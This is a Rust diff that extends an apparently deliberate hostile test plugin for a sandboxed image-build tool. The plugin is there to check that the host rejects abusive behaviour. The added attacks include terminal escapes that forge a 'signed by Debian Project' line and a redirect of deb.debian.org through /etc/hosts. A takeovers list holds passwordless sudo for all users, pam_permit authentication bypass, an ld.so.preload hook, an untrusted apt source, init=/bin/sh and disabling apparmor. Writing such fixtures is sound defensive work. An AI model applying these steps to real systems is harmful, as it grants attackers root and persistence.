@@ -33,6 +33,21 @@ pub enum Attack {
     /// and `wasi:io/poll`), where no guest code runs for epoch interruption
     /// to stop, in `plan`.
     Sleep,
+    /// Spin `spin` rounds in each of `validate`, `plan` and `checks`: each
+    /// call within its own budget, the three together beyond the plan's.
+    SpinEach,
+    /// Emit, in `plan`, every step that takes over a system: each needs a
+    /// privilege (the bundle declares them; nobody grants them).
+    Privileged,
+    /// Write `/etc/hosts`, which the recipe itself writes.
+    Overwrite,
+    /// Refuse to plan with nothing but a warning.
+    WarnOnly,
+    /// Put terminal escapes in a step's description and a diagnostic.
+    Escapes,
+    /// Return 40 MiB of file contents: within the guest's memory, beyond
+    /// what one call may hand the host.
+    Alias,
 }
 
 /// Wait forever: `std::thread::sleep` on wasip2 is `subscribe-duration`
@@ -48,7 +63,22 @@ fn sleep_forever() -> ! {
 pub struct Options {
     /// What to try.
     pub attack: Attack,
+    /// Rounds of busy work per call, for `spin-each`.
+    pub spin: u64,
 }
+
+/// Busy work the optimiser cannot remove.
+fn spin(rounds: u64) {
+    let mut x: u64 = 1;
+    for i in 0..rounds {
+        x = std::hint::black_box(x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(i));
+    }
+    std::hint::black_box(x);
+}
+
+/// An ESC that clears the line and returns the cursor: what a hostile
+/// description uses to hide the line before it.
+const HIDE: &str = "\u{1b}[2K\r";
 
 pub struct Hostile;
 
@@ -85,7 +115,23 @@ impl Feature for Hostile {
 
     fn validate(ctx: &Context<Options>) -> Vec<Diagnostic> {
         match ctx.options.attack {
-            Attack::None | Attack::BadSteps | Attack::Remember | Attack::Sleep => Vec::new(),
+            Attack::None
+            | Attack::BadSteps
+            | Attack::Remember
+            | Attack::Sleep
+            | Attack::Privileged
+            | Attack::Overwrite
+            | Attack::WarnOnly
+            | Attack::Alias => Vec::new(),
+            Attack::SpinEach => {
+                spin(ctx.options.spin);
+                Vec::new()
+            }
+            Attack::Escapes => vec![diag::warning(
+                "hostile.escapes",
+                "options.attack",
+                format!("{HIDE}signed by Debian Project (0123456789abcdef)"),
+            )],
             Attack::Loop => {
                 let mut x: u64 = 0;
                 loop {
@@ -132,8 +178,33 @@ impl Feature for Hostile {
                 step::run("escape", &["sh -c 'id'"]),
             ]);
         }
-        if ctx.options.attack == Attack::Sleep {
-            sleep_forever();
+        match ctx.options.attack {
+            Attack::Sleep => sleep_forever(),
+            Attack::SpinEach => spin(ctx.options.spin),
+            Attack::Privileged => return Ok(takeovers()),
+            Attack::Overwrite => {
+                return Ok(vec![step::write_file("/etc/hosts", "203.0.113.7 deb.debian.org\n")]);
+            }
+            Attack::WarnOnly => {
+                return Err(vec![diag::warning(
+                    "hostile.not-today",
+                    "",
+                    "not planning today",
+                )]);
+            }
+            Attack::Escapes => {
+                return Ok(vec![step::run(
+                    &format!("mark the build{HIDE}install vim"),
+                    &["true"],
+                )]);
+            }
+            Attack::Alias => {
+                let big = "x".repeat(1 << 20);
+                return Ok((0..40)
+                    .map(|i| step::write_file(&format!("/etc/hostile/{i}"), &big))
+                    .collect());
+            }
+            _ => {}
         }
         if ctx.options.attack == Attack::Remember {
             static PLANS: AtomicU32 = AtomicU32::new(0);
@@ -148,6 +219,31 @@ impl Feature for Hostile {
             "harmless\n",
         )])
     }
+
+    fn checks(ctx: &Context<Options>) -> Vec<BootCheck> {
+        if ctx.options.attack == Attack::SpinEach {
+            spin(ctx.options.spin);
+        }
+        Vec::new()
+    }
+}
+
+/// Steps that each take over the image in its own way.
+fn takeovers() -> Vec<Step> {
+    vec![
+        step::write_file_with("/etc/sudoers.d/hostile", "ALL ALL=(ALL) NOPASSWD: ALL\n", 0o440, "root", "root"),
+        step::write_file("/etc/apt/apt.conf.d/00hostile", "DPkg::Pre-Invoke { \"id\"; };\n"),
+        step::write_file("/etc/apt/sources.list.d/hostile.list", "deb [trusted=yes] http://203.0.113.7/ bookworm main\n"),
+        step::write_file("/etc/ld.so.preload", "/opt/hostile/hook.so\n"),
+        step::write_file("/etc/pam.d/common-auth", "auth sufficient pam_permit.so\n"),
+        step::write_file_with("/etc/profile.d/hostile.sh", "true\n", 0o666, "root", "root"),
+        step::write_file_with("/usr/local/bin/sudo", "#!/bin/sh\n", 0o755, "root", "root"),
+        step::kernel_arg("init=/bin/sh"),
+        step::sysctl("kernel.core_pattern", "|/opt/hostile/core"),
+        step::mask("apparmor.service"),
+        step::user("hostile", &["shadow", "disk"]),
+        step::run("look around", &["sh", "-c", "id"]),
+    ]
 }
 
 export_feature!(Hostile);
